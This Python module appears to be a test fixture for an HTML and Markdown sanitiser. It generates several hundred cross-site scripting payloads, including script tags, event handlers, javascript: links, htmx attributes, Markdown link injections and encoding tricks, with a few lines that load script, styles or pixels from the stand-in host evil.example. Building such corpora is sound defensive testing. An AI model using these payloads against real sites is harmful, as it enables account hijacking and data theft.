"""Words that try to become more than words: ways into a page, times ways to hide, times ways to act.

Whatever runs says so by raising `window.__hit`; whatever is fetched or linked bears the name "evil".
"""

import base64
from collections.abc import Iterator
from itertools import product

ACT = "window.__hit=1"
CALL = "alert(window.__hit=1)"
_BASE64 = base64.b64encode(f"<script>{ACT}</script>".encode()).decode()
_ENTITIES = "".join(f"&#{ord(letter)};" for letter in ACT)

TAGS = (
    "<script>{act}</script>",
    "<ScRiPt>{act}</sCrIpT >",
    "<script/x>{act}</script/x>",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    "<script src=//evil.example/a.js></script>",
    "<script type=module>{act}</script>",
    "<img src=x onerror={act}>",
    "<img/src=x/onerror={act}>",
    "<img src=x onerror\n=\n'{act}'>",
    "<img src='x' onerror='&#119;{act}'>",
    "<image href=x onerror={act}>",
    "<svg onload={act}>",
    "<svg/onload={act}//",
    "<svg><script>{act}</script></svg>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{act}><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:{act}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={act}></style></mglyph></table></mtext></math>",
    "<math href=javascript:{act}>x</math>",
    "<body onload={act}>",
    "<iframe src=javascript:{act}></iframe>",
    "<iframe srcdoc='<script>parent.{act}</script>'></iframe>",
    "<object data=javascript:{act}></object>",
    "<embed src=javascript:{act}>",
    "<video><source onerror={act}></video>",
    "<audio src=x onerror={act}>",
    "<details open ontoggle={act}>x</details>",
    "<input autofocus onfocus={act}>",
    "<select autofocus onfocus={act}></select>",
    "<textarea autofocus onfocus={act}></textarea>",
    "<marquee onstart={act}>x</marquee>",
    "<form action=javascript:{act}><button>x</button></form>",
    "<button formaction=javascript:{act}>x</button>",
    "<a href=javascript:{act}>x</a>",
    "<a href='java\tscript:{act}'>x</a>",
    "<a href=' javascript:{act}'>x</a>",
    "<a href=https://evil.example target=_top ping=//evil.example>x</a>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/a.css';</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<div hx-get=/evil hx-trigger=load>x</div>",
    "<div data-hx-post=/evil hx-trigger='load'>x</div>",
    "<div hx-on:load='{act}'>x</div>",
    "<div hx-on::after-init='{act}' hx-vals='js:{{x: {act}}}'>x</div>",
    "<hx-partial hx-target=body>{act}</hx-partial>",
    "<div id=main hx-swap-oob=true>evil</div>",
    "<template><script>{act}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'></noscript>",
    "<xmp><img src=x onerror={act}></xmp>",
    "<plaintext><img src=x onerror={act}>",
    "<!--><img src=x onerror={act}>-->",
    "<![CDATA[<img src=x onerror={act}>]]>",
    "<?xml <img src=x onerror={act}>?>",
    "<custom-element onclick={act} tabindex=1 autofocus>x</custom-element>",
    "<dialog open oncancel={act}>x</dialog>",
    "<img src=//evil.example/pixel.gif>",
)
BREAKS = ('"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "`", "\\", "\n\n")
MARKDOWN = (
    "[x](javascript:{act})",
    "[x](JaVaScRiPt:{act})",
    "[x](java&#9;script:{act})",
    "[x](&#106;avascript:{act})",
    "[x](javascript&colon;{act})",
    "[x](vbscript:{act})",
    "[x](data:text/html;base64,{base64})",
    "[x](//evil.example)",
    "[x](\\javascript:{act})",
    '[x](https://evil.example "onmouseover={act}")',
    "[x](https://evil.example/'onmouseover={act})",
    '[x](https://evil.example/"onmouseover={act})',
    "[x](https://evil.example/<img src=x onerror={act}>)",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:{act})",
    '![x" onerror="{act}](x)',
    "<javascript:{act}>",
    "<https://evil.example/onload={act}>",
    "[x]: javascript:{act}\n\n[x]",
    "`<img src=x onerror={act}>`",
    '```"><img src=x onerror={act}>\nx\n```',
    "> <img src=x onerror={act}>",
    "- <svg onload={act}>",
    "# <img src=x onerror={act}>",
    "**<script>{act}</script>**",
    "[<img src=x onerror={act}>](https://evil.example)",
    "https://evil.example/'><img src=x onerror={act}>",
    "x@evil.example'><img src=x onerror={act}>",
    "~~<svg/onload={act}>~~",
    "[a](<javascript:{act}>)",
)
OTHERS = (
    "{{{{ 7*7 }}}}{{{{ config }}}}<img src=x onerror={act}>",
    "{{% for x in ().__class__.__bases__ %}}<svg onload={act}>{{% endfor %}}",
    "${{{act}}}<img src=x onerror={act}>",
    "&lt;img src=x onerror={act}&gt;",
    "&amp;lt;script&amp;gt;{act}",
    "%3Cscript%3E{act}%3C/script%3E",
    "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
    "＜script＞{act}＜/script＞",
    "<img src=x onerror={entities}>",
    "\u2028<img src=x onerror={act}>",
    "javascript:{act}",
    "jav\u200bascript:{act}",
    "' onmouseover={act} x='",
    '" autofocus onfocus={act} x="',
    '" hx-get="/evil" hx-trigger="load" x="',
    "</article></main><h1>evil</h1>",
    '<img """><script>{act}</script>">',
    "<a href='jav&#x09;ascript:{act}'>x</a>",
    "<template><img src=x onerror={act}></template><meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<p id=new class=btn>evil</p><div data-open=keys hx-on:click={act}>x</div>",
    "<a\nhref\n=\njavascript:{act}\n>x</a>",
    "<script\x0b>{act}</script\x0b>",
    "<scr\x00ipt>{act}</scr\x00ipt>",
    "\u202e<script>{act}</script>",
    "[x](\x01javascript:{act})",
    "[x](java\tscript:{act})",
    "[x](file:///evil)",
    '![x](https://evil.example/x.png"onerror="{act})',
    "```html\n<script>{act}</script>\n```",
    "    <script>{act}</script>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{act}//'>",
)


def _all() -> Iterator[str]:
    for template, act in product((*TAGS, *MARKDOWN, *OTHERS), (ACT, CALL)):
        yield template.format(act=act, base64=_BASE64, entities=_ENTITIES)
    for start, template in product(BREAKS, TAGS[6:20:3]):
        yield start + template.format(act=ACT)


PAYLOADS = tuple(dict.fromkeys(_all()))
